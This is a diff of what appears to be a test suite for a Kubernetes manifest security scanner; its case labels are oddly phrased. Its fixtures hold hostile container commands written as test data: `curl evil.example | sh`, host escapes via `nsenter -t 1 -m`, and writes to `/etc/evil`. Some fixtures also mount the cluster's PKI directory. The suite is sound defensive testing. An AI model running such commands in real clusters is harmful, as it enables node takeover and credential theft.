@@ -61,7 +61,27 @@ holds([
   attack(
     "a command that sets the kernel up and something else",
     deployment(`          command: [sh, -c, "sysctl -w vm.max_map_count=1; curl evil.example | sh"]\n${PRIVILEGED}`),
+    FULL,
+  ),
+  attack(
+    "a command that sets the kernel up and runs what it is given",
+    deployment(`          command: [sh, -c, "sysctl -w vm.max_map_count=$(cat /evil)"]\n${PRIVILEGED}`),
+    FULL,
+  ),
+  attack(
+    "a script that stands in the manifest weighs little on each node, and is told",
+    DAEMON("web", OWN, `          command: [sh, -c, "nsenter -t 1 -m -- touch /etc/evil"]\n${PRIVILEGED}`),
+    ["container-privileged", "low"],
+  ),
+  attack(
+    "a script that fetches the rest",
+    DAEMON("web", OWN, `          command: [sh, -c, "nsenter -t 1 -m -- curl evil.example | sh"]\n${PRIVILEGED}`),
     LIGHT,
+  ),
+  attack(
+    "a script that stands in the manifest, and an application",
+    deployment(`          command: [sh, -c, "nsenter -t 1 -m -- touch /etc/evil"]\n${PRIVILEGED}`),
+    FULL,
   ),
   attack("a command that is called sysctl", deployment(`          command: [/evil/sysctl, -w, a=b]\n${PRIVILEGED}`), FULL),
   attack(
@@ -124,18 +144,19 @@ holds([
     ["pod-shares-host-namespace", "medium"],
   ),
   attack(
-    "the node's network, for an address that is handed out, weighs less, and is told",
+    "the node's network, for an address that it says it hands out",
     deployment("          ports: [{ containerPort: 67, protocol: UDP }]\n", "\n      hostNetwork: true"),
-    ["pod-shares-host-namespace", "medium"],
+    ["pod-shares-host-namespace", "high"],
   ),
   attack(
-    "the node's network, for who speaks to the control plane by another's image",
+    "the node's network, for who says that it speaks to the control plane",
     deployment("", "\n      hostNetwork: true\n      volumes: [{ name: a, hostPath: { path: /etc/kubernetes/pki } }]"),
-    ["pod-shares-host-namespace", "medium"],
+    ["pod-shares-host-namespace", "high"],
   ),
   attack(
-    "a TPU's limit weighs less, and is told",
-    deployment(`          resources: { limits: { google.com/tpu: 1 } }\n${PRIVILEGED}`),
-    LIGHT,
+    "the node's network, by the name of what finds the devices of a house, weighs less, and is told",
+    deployment("", "\n      hostNetwork: true").replace(OWN, "evil.example/homeassistant/home-assistant:1"),
+    ["pod-shares-host-namespace", "medium"],
   ),
+  attack("a TPU's limit", deployment(`          resources: { limits: { google.com/tpu: 1 } }\n${PRIVILEGED}`), FULL),
 ]);
